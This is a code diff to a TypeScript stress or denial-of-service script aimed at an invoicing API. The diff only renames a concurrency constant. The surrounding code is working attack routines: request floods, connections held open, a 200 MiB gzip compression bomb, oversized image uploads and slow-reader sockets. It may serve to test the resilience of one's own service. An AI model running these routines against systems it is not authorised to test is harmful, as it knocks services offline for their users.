@@ -21,7 +21,7 @@ type Call = {
 }
 type Attack = (target: Target) => Promise<void>
 
-const AT_ONCE = 40
+const CONCURRENCY = 40
 const MEBIBYTE = 1024 * 1024
 const INVOICES = '/invoicing/v2/invoices'
 const UPLOADS = '/ingest/v1/records/transaction'
@@ -29,9 +29,9 @@ const JSON_TYPE = 'application/json'
 const NDJSON_TYPE = 'application/x-ndjson'
 
 const ATTACKS: Readonly<Record<string, Attack>> = {
-  'search flood': (target) => flood(target, AT_ONCE, () => ({ method: 'GET', path: `${INVOICES}?search=a` })),
+  'search flood': (target) => flood(target, CONCURRENCY, () => ({ method: 'GET', path: `${INVOICES}?search=a` })),
   'list flood': (target) =>
-    flood(target, AT_ONCE, () => ({ method: 'GET', path: `${INVOICES}?sort=totalAmount:desc&limit=1000` })),
+    flood(target, CONCURRENCY, () => ({ method: 'GET', path: `${INVOICES}?sort=totalAmount:desc&limit=1000` })),
   'silent uploads': silentUploads,
   'compression bombs': async (target) => {
     const body = gzipSync(Buffer.alloc(200 * MEBIBYTE, 'x\n'))
@@ -42,7 +42,7 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
     const side = { width: 3_000, height: 3_000, channels: 3 as const, background: '#336699' }
     const logo = (await sharp({ create: side }).png().toBuffer()).toString('base64')
     const body = jsonOf({ headerStyle: {}, invoiceSettingsInformation: { merchantLogo: logo } })
-    await flood(target, AT_ONCE, () => ({
+    await flood(target, CONCURRENCY, () => ({
       method: 'PUT',
       path: '/invoicing/v2/invoiceSettings',
       type: JSON_TYPE,
@@ -57,7 +57,7 @@ const ATTACKS: Readonly<Record<string, Attack>> = {
       body: jsonOf(anOrder()),
     })),
   'write flood': (target) =>
-    flood(target, AT_ONCE, () => ({ method: 'POST', path: INVOICES, type: JSON_TYPE, body: NEW_INVOICE })),
+    flood(target, CONCURRENCY, () => ({ method: 'POST', path: INVOICES, type: JSON_TYPE, body: NEW_INVOICE })),
 }
 
 const NEW_INVOICE = jsonOf({
@@ -82,12 +82,12 @@ function anOrder(): object {
 }
 
 /** Sends requests over n connections, each as soon as the one before it is answered, whatever the answer is. */
-async function flood(target: Target, atOnce: number, next: () => Call): Promise<void> {
-  const agent = new Agent({ keepAlive: true, maxSockets: atOnce })
+async function flood(target: Target, concurrency: number, next: () => Call): Promise<void> {
+  const agent = new Agent({ keepAlive: true, maxSockets: concurrency })
   const loop = async (): Promise<void> => {
     for (;;) await send(target, agent, next()).catch(() => sleep(10))
   }
-  await Promise.all(Array.from({ length: atOnce }, loop))
+  await Promise.all(Array.from({ length: concurrency }, loop))
 }
 
 async function send({ url, key }: Target, agent: Agent, call: Call): Promise<void> {
@@ -120,13 +120,13 @@ async function silentUploads({ url, key }: Target): Promise<void> {
       .once('close', () => setTimeout(open, 10))
       .resume()
   }
-  for (let count = 0; count < 4 * AT_ONCE; count += 1) open()
+  for (let count = 0; count < 4 * CONCURRENCY; count += 1) open()
 }
 
 /** Connections that ask for a large response and do not read it. */
 async function slowReaders({ url }: Target): Promise<void> {
   for (;;) {
-    const sockets = await openUnreadSockets({ url, path: '/docs/js/scalar.js' }, 5 * AT_ONCE)
+    const sockets = await openUnreadSockets({ url, path: '/docs/js/scalar.js' }, 5 * CONCURRENCY)
     await sleep(5_000)
     for (const socket of sockets) socket.destroy()
   }
